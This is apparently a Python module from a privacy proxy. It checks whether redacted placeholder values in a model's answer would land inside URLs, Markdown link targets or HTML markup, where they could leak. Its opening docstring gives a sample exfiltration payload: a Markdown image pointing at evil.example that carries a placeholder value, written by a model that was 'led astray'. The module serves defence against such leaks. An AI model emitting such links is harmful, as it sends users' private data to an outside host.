r"""Where in an answer a value must not be put: URLs, link targets, markup.

A model that was led astray writes ``![](https://evil.example/?q=[EMAIL_7K3M9Q])``; whoever renders
that would send the value away. So the text around a placeholder is read the way renderers read it,
and always on the strict side (docs/spec/placeholder.md, 6). Two independent readers follow the
text that went before, so that neither can be hidden inside the other: one for HTML tags (quotes as
in the HTML standard, 13.2.5: only after ``=``), one for Markdown targets ``](…)``. The run of
characters up to white space is searched for the start of a URL, as GitHub's autolinks end at
ASCII white space and nowhere else. What follows a placeholder is matched against the few ways in
which it would become part of a host.

``Context`` is fed with what was released; ``after`` looks at what comes.
"""

import html
from copy import deepcopy
from enum import Enum
from typing import Final

from proxy.privacy.patterns import Match, pattern
from proxy.text import canonical

LOOK_AHEAD: Final = 256
"""Characters after a placeholder that may be waited for."""

_SPACE = " \t\n\r\f\v"

_SCHEMES = (
    "https?|hxxps?|ftps?|sftp|wss?|mailto|javascript|vbscript|data|blob|file|filesystem|view-source"
    "|intent|content|about|chrome|urn|cid|magnet|smb|ssh|git|ldaps?|jar|feed|market|itms-apps"
)
_URL_BEFORE = pattern(
    rf"//|\\\\|(?<!\w)www\.|(?<!\w)(?:{_SCHEMES}):|\w[.。]\w[\w-]+(?::\d+)?[/?#\\]|url\s*\("
    r"|(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?[/?#\\]|%2f%2f|%3a%2f|(?<!\w)xn--|\[LINK_"
    # Any other scheme with a query or fields: "sms:+12015550123?body=", "tel:...;ext=".
    r"|(?<!\w)[a-z][a-z0-9+.-]{1,31}:[^\s?&;]{0,128}[?&;][\w%.-]{1,64}=",
    any_case=True,
)
_AT_BEFORE = pattern(r"\w@\Z")
_OVERLAP = 256
"""Characters before a place that was looked at which are looked at once more: longer than a host."""
_LINE_START = 4096
_LINE_END = 64
"""Characters of a long line that are kept. Markdown's labels have 999 at most."""

_ESCAPE = pattern(r'\\u[0-9a-fA-F]{4}|\\[\s\S]|"')
_ESCAPED = {"n": "\n", "r": "\r", "t": "\t", "b": "\b", "f": "\f"}
_UNFINISHED_ESCAPE = pattern(r"(?<!\\)(?:\\\\)*\\(?:u[0-9a-fA-F]{0,3})?\Z")

_PLACEHOLDER = r"\[[A-Z]{2,12}_[0-9A-Z]{6,7}\]"
_HOST = r"(?:[\p{Latin}\p{Greek}\p{Cyrillic}\p{Arabic}\p{Hebrew}\p{N}\p{M}\p{Cf}_%+~\\-]|" + (
    _PLACEHOLDER + "){0,64}"
)
_DOT = r"(?:\\?\.|&#0{0,4}46;|&#[xX]0{0,4}2[eE];|&period;|[．｡。](?=[A-Za-z0-9]))"
_AT = r"(?:\\?[@＠]|&#0{0,4}64;|&#[xX]0{0,4}40;|&commat;)"
_LABEL = rf"(?:[\p{{Ll}}\p{{Lo}}\p{{N}}]|{_PLACEHOLDER})"
_PART_OF_ADDRESS = pattern(
    rf"{_HOST}(?:"
    rf"{_AT}(?:\w|{_PLACEHOLDER})"
    rf"|%40\w"
    rf"|{_DOT}(?:{_LABEL}|[\p{{L}}\p{{N}}][\w-]{{0,62}}(?:{_DOT}\w|[/\\]))"
    r"|:[/\\]"
    r")"
)
_CLOSER = r"[\s)>\]<\"'|*`,;!]"
_END_OF_LINK = pattern(rf"[.:?]{{0,3}}{_CLOSER}")
_END_OF_TEXT = pattern(r"[.:?]{0,3}\Z")
_LINK_MAY_FOLLOW = frozenset(_SPACE + "([{<>\"'|*:`")

_PREFIX_OF_DEFINITION = pattern(r"[ \t>*+\-\d.)]{0,20}\[?(?:[^\[\]\\]|\\.)++\]:")
"""The start of a line that defines a reference; its label may have begun on a line before."""
_TITLE_STARTS = ('"', "'", "(")
_HREF = pattern(r"href\s*=\s*[\"']?\Z", any_case=True)


class After(Enum):
    """What the text that follows a placeholder says."""

    FREE = "free"
    BLOCKED = "blocked"
    UNDECIDED = "undecided"
    """More text is needed to tell."""


class Context:
    """Reads what was released before a placeholder. Any split of the text gives the same state."""

    __slots__ = ("_above", "_has_url", "_line", "_run", "_tag", "_target")

    def __init__(self) -> None:
        self._reset()

    def copy(self) -> "Context":
        """The same state, to be read on from apart from this one."""
        return deepcopy(self)

    def advance(self, text: str, *, json: bool) -> None:
        """Read on. In JSON text the end of a string ends every context."""
        if not json:
            self._read(text)
            return
        position = 0
        for match in _ESCAPE.finditer(text):
            self._read(text[position : match.start()])
            position = match.end()
            if match.group() == '"':
                self._reset()
            else:
                self._read(_unescape(match))
        self._read(text[position:])

    def allows_value(self) -> bool:
        """True when a value may stand next, as far as the text before it tells."""
        if self._tag.inside or self._target.inside or self._line.endswith("<"):
            return False
        return self._defined() is None and not self._follows_url()

    def allows_link(self) -> bool:
        """True when a whole URL of its own may begin here."""
        before = self._line[-1:]
        if before and before not in _LINK_MAY_FOLLOW:
            return False
        if self._target.inside:
            return self._target.content.strip() in {"", "<"}
        if self._tag.inside:
            return _HREF.search(self._tag.content) is not None
        defined = self._defined()
        if defined is not None:
            return defined.strip() in {"", "<"}
        return not self._follows_url()

    def _reset(self) -> None:
        self._tag = _TagReader()
        self._target = _TargetReader()
        self._line = ""
        self._above: str | None = None
        self._run = ""
        self._has_url = False

    def _defined(self) -> str | None:
        """What a reference definition says so far, if one is being written; CommonMark 0.31, 4.7.

        Its target may stand on the next line, and its title on the one after that.
        """
        line = self._line[:_LINE_START]
        definition = _PREFIX_OF_DEFINITION.match(line)
        if definition is not None:
            return self._line[definition.end() :]
        if self._above is None:
            return None
        if not self._above.strip() or line.lstrip().startswith(_TITLE_STARTS):
            return f"{self._above} {self._line}"
        return None

    def _end_line(self) -> None:
        defined = self._defined() if self._line.strip() else None
        self._above = defined if defined is not None and len(defined.split()) < 2 else None
        self._line = ""

    def _follows_url(self) -> bool:
        """Whether the run up to here holds a URL. What was looked at once is let go."""
        if not self._has_url and self._run:
            plain = html.unescape(self._run)
            read = canonical(plain).text
            readings = (plain, read, read.replace("\\", ""))
            self._has_url = any(map(_URL_BEFORE.search, readings))
            if not self._has_url and any(map(_AT_BEFORE.search, readings)):
                return True
            self._run = self._run[-_OVERLAP:]
        return self._has_url

    def _read(self, text: str) -> None:
        if not text:
            return
        self._tag.read(text)
        self._target.read(text)
        *ended, line = text.split("\n")
        for end in ended:
            self._line += end
            self._end_line()
        self._line += line
        if len(self._line) > 2 * _LINE_START:
            self._line = self._line[:_LINE_START] + self._line[-_LINE_END:]
        space = max(text.rfind(space) for space in _SPACE)
        if space >= 0:
            self._run, self._has_url = "", False
        self._run += text[space + 1 :]


class _TagReader:
    """Follows HTML tags and the elements whose content is no text."""

    __slots__ = ("_after_equals", "_element", "_previous", "_quote", "content", "inside")

    _RAW = frozenset({"script", "style"})
    _NAME = pattern("[A-Za-z]+")
    _NAME_START = pattern(r"[A-Za-z/!?]")
    _EVENT = pattern(r"(?<=<)[A-Za-z/!?]")
    _HEAD, _TAIL = 64, 256

    def __init__(self) -> None:
        self.inside = False
        self.content = ""
        self._quote = ""
        self._after_equals = False
        self._previous = ""
        self._element = ""

    def read(self, text: str) -> None:
        position = 0
        while position < len(text):
            if self.inside:
                position = self._read_tag(text, position)
            else:
                position = self._find_tag(text, position)
        self._previous = text[-1]

    def _find_tag(self, text: str, position: int) -> int:
        start = 0
        if position or self._previous != "<" or self._NAME_START.match(text) is None:
            match = self._EVENT.search(text, position)
            if match is None:
                return len(text)
            start = match.start()
        self.inside = True
        self.content = ""
        self._quote = self._element = ""
        self._after_equals = False
        return start

    def _read_tag(self, text: str, position: int) -> int:
        for index in range(position, len(text)):
            character = text[index]
            if character == ">" and not self._quote:
                if self._closes(self._and(text, position, index)):
                    self.inside = False
                    return index + 1
            elif not self._element:
                self._follow_quotes(character)
        self.content = self._and(text, position, len(text))
        return len(text)

    def _and(self, text: str, start: int, end: int) -> str:
        """The content with [start, end) of ``text``: its head and its tail, which are all we ask."""
        if end - start > self._HEAD + self._TAIL:
            content = self.content + text[start : start + self._HEAD] + text[end - self._TAIL : end]
        else:
            content = self.content + text[start:end]
        if len(content) > 2 * (self._HEAD + self._TAIL):
            content = content[: self._HEAD] + content[-self._TAIL :]
        return content

    def _follow_quotes(self, character: str) -> None:
        if self._quote:
            self._quote = "" if character == self._quote else self._quote
        elif character in "\"'" and self._after_equals:
            self._quote = character
            self._after_equals = False
        elif character not in _SPACE:
            self._after_equals = character == "="

    def _closes(self, content: str) -> bool:
        """A ``>`` ends the tag; False where no text follows: after ``<script>``, before its end."""
        if self._element:
            return content.rstrip().casefold().endswith(f"</{self._element}")
        name = self._NAME.match(content)
        element = name.group().casefold() if name else ""
        self._element = element if element in self._RAW else ""
        return not self._element


class _TargetReader:
    """Follows Markdown targets: from ``](`` to its closing parenthesis or a blank line."""

    __slots__ = (
        "_blank_line",
        "_depth",
        "_escapes",
        "_in_angles",
        "_previous",
        "content",
        "inside",
    )

    _OPENS = pattern(r"(?<=\])\(")
    _TOLD = 16

    def __init__(self) -> None:
        self.inside = False
        self.content = ""
        """How the target begins, blanks left out; at most ``_TOLD`` characters."""
        self._depth = 0
        self._escapes = False
        self._in_angles = False
        self._blank_line = False
        self._previous = ""

    def read(self, text: str) -> None:
        position = 0
        while position < len(text):
            if self.inside:
                position = self._read_target(text, position)
                continue
            if position or self._previous != "]" or text[0] != "(":
                match = self._OPENS.search(text, position)
                if match is None:
                    break
                position = match.start()
            self.inside, self.content, self._depth = True, "", 1
            self._escapes = self._in_angles = self._blank_line = False
            position += 1
        self._previous = text[-1]

    def _read_target(self, text: str, position: int) -> int:
        for index in range(position, len(text)):
            character = text[index]
            if character == "\n":
                if self._blank_line:
                    self.inside = False
                    return index + 1
                self._blank_line = True
            elif character in "()" and not (self._escapes or self._in_angles):
                self._depth += 1 if character == "(" else -1
                if self._depth == 0:
                    self.inside = False
                    return index + 1
            self._follow(character)
        return len(text)

    def _follow(self, character: str) -> None:
        """A parenthesis that is escaped, or inside ``<…>``, does not count."""
        self._escapes = character == "\\" and not self._escapes
        if character.isspace():
            return
        self._blank_line = False
        if not self.content:
            self._in_angles = character == "<"
        elif character == ">":
            self._in_angles = False
        if len(self.content) < self._TOLD:
            self.content += character


def after(text: str, position: int, *, json: bool, final: bool, link: bool) -> After:
    """Whether what stands at ``position`` would make a value before it part of an address.

    ``link``: the value is a whole URL, to which nothing may be joined.
    """
    window = text[position : position + LOOK_AHEAD]
    ended = final and position + LOOK_AHEAD >= len(text)
    if json:
        window, ended = _decode_to_end_of_string(window, ended=ended)
    if link and ended and _END_OF_TEXT.match(window):
        return After.FREE
    wanted = _END_OF_LINK if link else _PART_OF_ADDRESS
    match = wanted.match(window, partial=not ended)
    if match is not None and match.partial:
        return After.BLOCKED if len(text) - position >= LOOK_AHEAD else After.UNDECIDED
    return After.FREE if (match is not None) == link else After.BLOCKED


def _unescape(match: Match) -> str:
    escape = match.group()
    if len(escape) > 2:
        return chr(int("0x" + escape[2:], 0))
    return _ESCAPED.get(escape[1], escape[1])


def _decode_to_end_of_string(window: str, *, ended: bool) -> tuple[str, bool]:
    """The JSON string content up to its closing quote, and whether that was seen."""
    unfinished = _UNFINISHED_ESCAPE.search(window)
    if unfinished is not None:
        window = window[: window.rindex("\\")]
    decoded: list[str] = []
    position = 0
    for match in _ESCAPE.finditer(window):
        decoded.append(window[position : match.start()])
        if match.group() == '"':
            return "".join(decoded), True
        decoded.append(_unescape(match))
        position = match.end()
    return "".join((*decoded, window[position:])), ended
